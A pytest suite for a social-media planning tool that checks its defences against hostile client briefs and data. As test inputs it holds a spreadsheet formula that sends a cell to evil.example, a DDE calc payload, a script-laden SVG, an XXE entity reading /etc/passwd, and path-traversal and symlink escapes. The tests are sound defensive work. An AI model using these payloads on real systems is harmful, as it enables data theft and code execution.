"""Issue 16: hostile briefs and data are rejected or neutralised, and no deliverable holds a
personal value or a file from outside the brief's folder."""

from __future__ import annotations

import base64
import contextlib
import copy
import csv
import io
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from smmplan.audience import prepare_audience
from smmplan.build import BuildOptions, build_one
from smmplan.errors import BriefError, UsageError
from smmplan.export import plotly_js
from smmplan.paths import EXAMPLES_DIR
from smmplan.privacy import min_group, personal_column, value_kind
from smmplan.safety import (
    LOCK_NAME,
    folder_lock,
    safe_cell,
    sanitize_svg,
    write_csv,
)
from smmplan.validation import load_brief

from .conftest import SMMPLAN, example_raw, run_cli, standalone, write_brief

SECRET = "TOP-SECRET-MARKER-5521"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
SCRIPTED_SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" viewBox="0 0 10 10">'
    '<script>alert("svg")</script><defs><circle id="c" r="4"/></defs>'
    '<use xlink:href="#c"/><use href="https://evil.example/x.svg#a"/>'
    '<image href="file:///etc/passwd"/><foreignObject><p>x</p></foreignObject>'
    '<a href="javascript:alert(2)"><rect width="5" height="5" onclick="alert(3)"/></a>'
    '<rect width="2" height="2" style="fill:url(https://evil.example/p)"/>'
    '<rect width="3" height="3" fill="#123456"/></svg>'
)

# Personal-data columns in six languages, with values that must never reach a deliverable.
FIRST = ["Quorvina", "Zebulonix", "Marvelline", "Trostanek", "Yselwyn", "Ombraletta",
         "Kwendolyx", "Farraquil", "Jostrabel", "Ulvenmira", "Pexandor"]
PERSONAL_HEADERS = {  # column -> (language, function of the row number giving its value)
    "Vorname": ("de", lambda i: FIRST[i % 11]),
    "Nachname": ("de", lambda i: FIRST[(i * 7) % 11] + "sson"),
    "Cognome": ("it", lambda i: FIRST[(i * 3) % 11] + "ini"),
    "Apellidos": ("es", lambda i: FIRST[(i * 5) % 11] + "ez"),
    "Sobrenome": ("pt", lambda i: FIRST[(i * 2) % 11] + "eira"),
    "Prénom": ("fr", lambda i: FIRST[(i * 4) % 11] + "ette"),
    "Passport number": ("en", lambda i: f"P{7310000 + i * 37}"),
    "Codice fiscale": ("it", lambda i: f"RSSMRA{80 + i % 10}A01H{100 + i}Z"),
    "Telefonnummer": ("de", lambda i: f"+49 151 {2000000 + i * 13}"),
    "Correo electrónico": ("es", lambda i: f"cliente{i}@correo.example"),
    "Morada": ("pt", lambda i: f"Rua das Flores {i + 1}, Lisboa"),
}
CONTENT_ONLY = {  # neutral names, personal content
    "Contact": lambda i: f"user{i}@mail.example",
    "Ref": lambda i: _iban(i),
    "Where": lambda i: f"{i + 3} rue Oberkampf, Paris",
    "Line": lambda i: f"06 12 {i // 100 + 10:02d} {i % 100:02d} 99",
}


def _iban(i: int) -> str:
    body = f"30006000011234567{i:04d}"[:21]
    check = 98 - int("".join(str(int(c, 36)) for c in body + "FR00")) % 97
    return f"FR{check:02d}{body}"


def hostile_table(n: int) -> pd.DataFrame:
    """An audience of ``n`` rows: personal columns, two clusters in spend and age."""
    rng = np.random.default_rng(3)
    group = np.arange(n) % 2
    data = {col: [make(i) for i in range(n)] for col, (_, make) in PERSONAL_HEADERS.items()}
    data |= {col: [make(i) for i in range(n)] for col, make in CONTENT_ONLY.items()}
    data["Spend"] = np.round(np.where(group, 900, 80) + rng.normal(0, 20, n), 2)
    data["Age"] = np.where(group, 55, 24) + rng.integers(-3, 4, n)
    data["Region"] = np.where(group, "North", "South")
    return pd.DataFrame(data)


def planted_values(table: pd.DataFrame) -> set[str]:
    personal = list(PERSONAL_HEADERS) + list(CONTENT_ONLY)
    return {str(v) for col in personal for v in table[col]}


# --- Confined file access -------------------------------------------------------------------

@pytest.fixture
def corpus(tmp_path):
    """A client folder beside a folder the brief must not read."""
    outside = tmp_path / "secret"
    outside.mkdir()
    (outside / "secret.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg">'
                                        f'<text>{SECRET}</text></svg>', encoding="utf-8")
    (outside / "posts.csv").write_text(f"Date,Reach\n2025-01-01,{SECRET}\n", encoding="utf-8")
    client = tmp_path / "clients" / "acme"
    client.mkdir(parents=True)
    return {"root": tmp_path, "outside": outside, "client": client}


def _brief_with(client: Path, logo: str | None = None, posts: str | None = None) -> Path:
    raw = standalone(example_raw("fashion"))
    if logo:
        raw["brand"]["visual_identity"]["logo"] = logo
    if posts:
        raw["data"] = {"posts": {"path": posts}}
    return write_brief(client, raw)


def _problems(path: Path) -> str:
    with pytest.raises(BriefError) as err:
        load_brief(path)
    return "\n".join(err.value.lines())


def test_files_outside_the_brief_folder_are_rejected(corpus):
    client, outside = corpus["client"], corpus["outside"]
    (client / "logo.svg").symlink_to(outside / "secret.svg")
    (client / "passwd.png").symlink_to("/etc/passwd")
    cases = {
        "../../secret/secret.svg": "brand.visual_identity.logo",
        str(outside / "secret.svg"): "brand.visual_identity.logo",
        "logo.svg": "brand.visual_identity.logo",  # a symlink leading out
        "passwd.png": "brand.visual_identity.logo",
    }
    for logo, field in cases.items():
        text = _problems(_brief_with(client, logo=logo))
        assert f"{field}: {logo} resolves outside the brief's folder" in text, text
        assert "--allow-dir" in text
    text = _problems(_brief_with(client, posts="../../secret/posts.csv"))
    assert "data.posts.path: ../../secret/posts.csv resolves outside" in text


def test_allowed_folders_by_option_and_setting(corpus, monkeypatch):
    client, outside = corpus["client"], corpus["outside"]
    brief = _brief_with(client, logo=str(outside / "secret.svg"))
    assert run_cli("validate", str(brief)).returncode == 2
    ok = run_cli("validate", str(brief), "--allow-dir", str(outside))
    assert ok.returncode == 0, ok.stderr
    monkeypatch.setenv("SMMPLAN_ALLOWED_DIRS", str(outside))
    assert load_brief(brief).brand.visual_identity.logo


def test_logos_checked_by_content_and_size(corpus):
    client = corpus["client"]
    (client / "big.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * (3 * 1024 * 1024))
    (client / "fake.png").write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (client / "bad.svg").write_text("<svg><unclosed></svg>", encoding="utf-8")
    (client / "entity.svg").write_text(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>', encoding="utf-8")
    expected = {"big.png": "a logo may be at most 2.1 MB",
                "fake.png": "is not a PNG, JPEG or SVG image (checked by its content)",
                "bad.svg": "not a well-formed SVG file",
                "entity.svg": "not a well-formed SVG file"}
    for name, message in expected.items():
        text = _problems(_brief_with(client, logo=name))
        assert "brand.visual_identity.logo: " in text and message in text, text


def test_svg_sanitised_before_embedding():
    clean = sanitize_svg(SCRIPTED_SVG.encode()).decode()
    for bad in ("script", "onload", "onclick", "foreignObject", "evil.example", "javascript",
                "passwd", "<image", "<a "):
        assert bad not in clean, (bad, clean)
    assert 'href="#c"' in clean and 'fill="#123456"' in clean  # the drawing is kept


# --- Personal data ----------------------------------------------------------------------------

def test_personal_columns_by_name_in_six_languages_and_by_content():
    table = hostile_table(200)
    aud = prepare_audience(table, "audience.csv")
    dropped = {n.column for n in aud.notes if n.action == "dropped"}
    assert set(PERSONAL_HEADERS) | set(CONTENT_ONLY) <= dropped
    assert {lang for lang, _ in PERSONAL_HEADERS.values()} == {"en", "fr", "de", "es", "it",
                                                               "pt"}
    assert aud.key_column is None  # a passport number is never the row key
    assert set(aud.features.columns) == {"Spend", "Age", "Region"}
    for header in ("Nachname", "Vorname", "Cognome", "Nome", "Apellido", "Sobrenome",
                   "Nom de famille", "Passport No.", "Steuer-ID", "Número de teléfono",
                   "E-Mail-Adresse", "Código postal", "IBAN", "Carta d'identità"):
        assert personal_column(header), header
    for header in ("Product name", "Accepts Email Marketing", "City", "Total Spent", "Age"):
        assert personal_column(header, pd.Series(["yes", "no"] * 5)) is None, header
    assert [value_kind(v) for v in ("a.b@c.fr", "+33 6 12 34 56 78", "123-45-6789",
                                    _iban(1), "12 Main Street", "12345678Z", "120045")] == [
        "e-mail", "phone", "document", "bank", "address", "document", None]


def test_a_role_mapped_to_a_personal_column_is_a_validation_error(tmp_path):
    hostile_table(200).to_csv(tmp_path / "audience.csv", index=False)
    raw = standalone(example_raw("fashion"))
    raw["data"] = {"audience": {"path": "audience.csv",
                                "columns": {"product": "Correo electrónico",
                                            "id": "Passport number", "value": "Spend"}}}
    text = _problems(write_brief(tmp_path, raw))
    assert "data.audience.columns.product: column 'Correo electrónico' holds personal data" \
        in text
    assert "data.audience.columns.id: column 'Passport number' holds personal data" in text
    assert "columns.value" not in text


def test_no_group_under_the_disclosure_minimum(tmp_path):
    from smmplan.plan import Plan
    from smmplan.views import targets_decisions, targets_intro

    assert min_group(100) == 30 and min_group(2000) == 100
    hostile_table(3).to_csv(tmp_path / "audience.csv", index=False)
    raw = standalone(example_raw("fashion"))
    raw["data"] = {"audience": {"path": "audience.csv"}}
    plan = Plan(load_brief(write_brief(tmp_path, raw)))
    tg = plan.targets
    assert tg.reason == "too_small" and tg.declared and not tg.personas and tg.rows == 3
    assert tg.assignments() is None
    assert "3 people: too few to split into groups of at least 30" in targets_intro(
        plan).html()
    assert "Targets not computed" in targets_decisions(plan)[0]
    raw["targets"] = {"k": 2}  # a forced k cannot make a group of one
    text = _problems(write_brief(tmp_path, raw))
    assert "targets.k: 3 rows in audience.csv are too few for 2 targets" in text


# --- CSV safety ----------------------------------------------------------------------------

def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path):
    assert [safe_cell(v) for v in (FORMULA, "+1+cmd", "@SUM(A1)", "\tx", "\rx", "-2+3",
                                   "-12.5", "+33", "plain", -12.5, 3)] == [
        "'" + FORMULA, "'+1+cmd", "'@SUM(A1)", "'\tx", "'\rx", "'-2+3", "-12.5", "+33",
        "plain", -12.5, 3]
    write_csv(pd.DataFrame({"name": [FORMULA, "ok"], "delta": [-12.5, 3.0]}),
              tmp_path / "t.csv")
    rows = list(csv.reader((tmp_path / "t.csv").open(encoding="utf-8")))
    assert rows == [["name", "delta"], ["'" + FORMULA, "-12.5"], ["ok", "3.0"]]


# --- Batches, locks, leftovers, track ------------------------------------------------------

@pytest.mark.parametrize("jobs", ["1", "2"])  # at -j 2 the briefs are checked in the workers
def test_two_briefs_with_one_output_folder_stop_before_any_kernel(tmp_path, jobs):
    raw = standalone(example_raw("bakery"))
    raw["client"]["name"] = "Conc Test"
    first = write_brief(tmp_path / "a", raw)
    second = write_brief(tmp_path / "b", copy.deepcopy(raw))
    res = run_cli("build", str(first), str(second), "-o", str(tmp_path / "out"), "-q", "-j",
                  jobs)
    assert res.returncode == 2
    assert f"{second}: writes to the same folder as {first} " in res.stderr
    assert str((tmp_path / "out" / "conc-test").resolve()) in res.stderr
    assert "Traceback" not in res.stderr and not (tmp_path / "out").exists()


def test_a_live_lock_stops_a_second_build_and_a_stale_one_is_taken_over(tmp_path):
    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        (tmp_path / LOCK_NAME).write_text(f"{holder.pid}\n", encoding="ascii")
        with pytest.raises(UsageError, match=rf"another smmplan build \(process "
                                             rf"{holder.pid}\) is writing into this folder"):
            with folder_lock(tmp_path):
                pass
    finally:
        holder.kill()
        holder.wait()
    with folder_lock(tmp_path):  # its process is gone: the lock is stale
        assert (tmp_path / LOCK_NAME).read_text().strip() == str(os.getpid())
    assert not (tmp_path / LOCK_NAME).exists()


def test_track_is_validated_and_never_writes_into_a_plan_folder(tmp_path):
    brief = EXAMPLES_DIR / "fashion" / "brief.yaml"
    actuals = tmp_path / "actuals"
    actuals.mkdir()
    (actuals / "posts.csv").write_text("Platform,Publish time,Post type,Impressions\n"
                                       "Instagram,03/02/2027 10:00,Reel,100\n",
                                       encoding="utf-8")
    res = run_cli("track", str(brief), "--actuals", str(actuals), "-o", str(tmp_path))
    assert res.returncode == 2 and "KeyError" not in res.stderr
    assert (f"{actuals / 'posts.csv'}: column 'Reach' (data.posts.columns.reach in "
            f"{brief}) is not in the file") in res.stderr
    plan_dir = tmp_path / "plans" / "maison-lune"
    plan_dir.mkdir(parents=True)
    (plan_dir / "plan.json").write_text("{}", encoding="utf-8")
    options = BuildOptions(actuals=EXAMPLES_DIR / "fashion" / "actuals")
    result = build_one(brief, tmp_path / "plans", options)  # refused before any kernel
    assert not result.ok and "this folder holds a plan" in result.message
    assert sorted(p.name for p in plan_dir.iterdir()) == ["plan.json"]


# --- One hostile plan, built: every output file scanned --------------------------------------

@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """A hostile brief built once, into a folder a killed build left staging folders and a
    stale lock in."""
    folder = tmp_path_factory.mktemp("hostile")
    table = hostile_table(400)
    table.to_csv(folder / "audience.csv", index=False)
    (folder / "logo.svg").write_text(SCRIPTED_SVG, encoding="utf-8")
    raw = standalone(example_raw("fashion"))
    raw["client"]["name"] = "Hostile Client"
    raw["brand"]["visual_identity"]["logo"] = "logo.svg"
    raw["situation"]["competitors"][0]["name"] = FORMULA
    raw["calendar"] = {"events": [{"date": str(raw["client"]["period"]["start"]),
                                   "name": "@SUM(1+1)*cmd|' /C calc'!A0"}]}
    raw["data"] = {"audience": {"path": "audience.csv", "columns": {"value": "Spend"}}}
    brief = write_brief(folder, raw)
    out = folder / "out"
    target = out / "hostile-client"
    (target / ".staging-killed1" / "tables").mkdir(parents=True)
    (target / ".old-tables-999999").mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    (target / LOCK_NAME).write_text(f"{dead.pid}\n", encoding="ascii")
    res = run_cli("build", str(brief), "-o", str(out), "-q")
    return {"res": res, "target": target, "planted": planted_values(table)}


def test_hostile_plan_builds_without_leftovers(hostile_build):
    res, target = hostile_build["res"], hostile_build["target"]
    assert res.returncode == 0, res.stdout + res.stderr
    names = {p.name for p in target.iterdir()}
    assert {"plan.html", "plan.json", "audience_segments.csv", "calendar.csv"} <= names
    assert not [n for n in names if n.startswith((".staging-", ".old-", LOCK_NAME))], names


def test_no_planted_value_in_any_deliverable(hostile_build):
    target = hostile_build["target"]
    files = [p for p in target.rglob("*") if p.is_file()]
    assert len(files) > 20
    text = {p: p.read_text(encoding="utf-8", errors="replace") for p in files}
    bundle = plotly_js()  # our own copy of plotly.js: 4 MB that hold no client data
    planted = re.compile("|".join(re.escape(v) for v in sorted(hostile_build["planted"],
                                                                key=len, reverse=True)))
    source = (target.parents[1] / "audience.csv").read_text(encoding="utf-8")
    assert len(planted.findall(source)) == 400 * 15  # the scan sees every planted value
    for path, content in text.items():
        found = planted.findall(content.replace(bundle, ""))
        assert not found, (path.name, found[:5])
    segments = pd.read_csv(target / "audience_segments.csv", dtype=str)
    assert list(segments.columns) == ["key", "target", "sub_target"]
    assert segments["key"].tolist() == [str(i) for i in range(1, 401)]  # row numbers
    # the logo embedded in the HTML is the sanitised SVG
    html = text[target / "plan.html"]
    logo = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', html)
    assert logo, "logo missing"
    svg = base64.b64decode(logo.group(1)).decode()
    assert "script" not in svg and "evil.example" not in svg and "onload" not in svg


def test_every_csv_of_the_plan_is_safe_to_open(hostile_build):
    target = hostile_build["target"]
    csvs = [*target.glob("*.csv"), *(target / "tables").glob("*.csv")]
    assert len(csvs) > 10
    seen_formula = 0
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                if cell.startswith(("=", "+", "@", "\t", "\r")) or (
                        cell.startswith("-") and not re.fullmatch(r"-[\d.eE+-]+", cell)):
                    pytest.fail(f"{path.name}: unsafe cell {cell!r}")
                seen_formula += cell.startswith("'=HYPERLINK") or cell.startswith("'@SUM")
    assert seen_formula >= 2  # the competitor and the event, neutralised, not dropped


def test_hostile_targets_respect_the_disclosure_minimum(hostile_build):
    import json

    data = json.loads((hostile_build["target"] / "plan.json").read_text(encoding="utf-8"))
    seg = data["targets"]
    assert seg["min_group"] == 30 and seg["personas"]
    for persona in seg["personas"]:
        assert persona["size"] >= 30
        for trait in persona["traits"]:
            if trait["kind"] == "category":
                assert trait["share"] * persona["size"] / 100 >= 30


# --- Determinism ---------------------------------------------------------------------------

def test_seed_comes_from_data_and_settings_not_the_name(tmp_path):
    hostile_table(200).to_csv(tmp_path / "audience.csv", index=False)
    raw = standalone(example_raw("fashion"))
    raw["data"] = {"audience": {"path": "audience.csv"}}
    seeds = []
    for name in ("Client One", "Another Name"):
        raw["client"]["name"] = name
        seeds.append(load_brief(write_brief(tmp_path, raw)).random_seed())
    assert seeds[0] == seeds[1]
    raw["targets"] = {"min_share": 7}
    assert load_brief(write_brief(tmp_path, raw)).random_seed() != seeds[0]
    raw["seed"] = 12345
    assert load_brief(write_brief(tmp_path, raw)).random_seed() == 12345
    (tmp_path / "audience.csv").write_text("Age,Spend\n30,2\n40,5\n", encoding="utf-8")
    del raw["seed"], raw["targets"]
    assert load_brief(write_brief(tmp_path, raw)).random_seed() != seeds[0]


# --- Ctrl-C -----------------------------------------------------------------------------------

def test_ctrl_c_stops_in_one_line_with_exit_130_and_no_leftovers(tmp_path):
    raw = standalone(example_raw("bakery"))
    brief = write_brief(tmp_path / "b", raw)
    out = tmp_path / "out"
    proc = subprocess.Popen([*SMMPLAN, "build", str(brief), "-o", str(out), "-q"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    target = out / "maison-fournil"
    for _ in range(600):  # until the build is under way (its staging folder exists)
        if list(target.glob(".staging-*")) or proc.poll() is not None:
            break
        time.sleep(0.05)
    assert proc.poll() is None, "the build ended before it could be interrupted"
    time.sleep(1.0)  # into the kernel's start or first cells
    proc.send_signal(signal.SIGINT)
    stdout, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 130, stderr
    assert stderr.strip() == "smmplan: interrupted"
    assert not list(target.glob(".staging-*")) and not (target / LOCK_NAME).exists()


def _processes_naming(text: str) -> list[int]:
    """Processes whose command line holds ``text`` (a batch's workers, and the kernels
    forked from them, carry the batch's own command line)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and entry.name != str(os.getpid()):
            try:
                if text in (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


@pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="reads /proc")
def test_ctrl_c_twice_in_a_batch_leaves_no_worker_or_kernel_running(tmp_path):
    """Ctrl-C pressed again and again (or a terminal's signal sent twice): a Ctrl-C while
    the workers are being stopped does not end the batch before them."""
    briefs = []
    for name in ("Client One", "Client Two"):
        raw = standalone(example_raw("bakery"))
        raw["client"]["name"] = name
        briefs.append(str(write_brief(tmp_path / name.replace(" ", "-"), raw)))
    out = tmp_path / "out"
    # output to files: workers left running would hold pipes open
    with open(tmp_path / "stderr", "w") as err:
        proc = subprocess.Popen([*SMMPLAN, "build", *briefs, "-o", str(out), "-j", "2", "-q"],
                                stdout=subprocess.DEVNULL, stderr=err,
                                start_new_session=True)  # its own group, as a terminal job
    for _ in range(600):  # until both builds are under way
        if len(list(out.glob("*/.staging-*"))) == 2 or proc.poll() is not None:
            break
        time.sleep(0.05)
    assert proc.poll() is None, "the batch ended before it could be interrupted"
    time.sleep(1.0)  # into the kernels' start or first cells
    for _ in range(2):  # to the whole group, as a terminal does
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGINT)
        time.sleep(0.1)  # the workers are still cleaning up after the first
    proc.wait(timeout=60)
    left = _processes_naming(str(out))
    for _ in range(100):  # a kernel stops within a second or so of its worker
        if not left:
            break
        time.sleep(0.1)
        left = _processes_naming(str(out))
    for pid in left:  # not left to the machine when the test fails
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    assert proc.returncode == 130, (tmp_path / "stderr").read_text()
    assert left == []
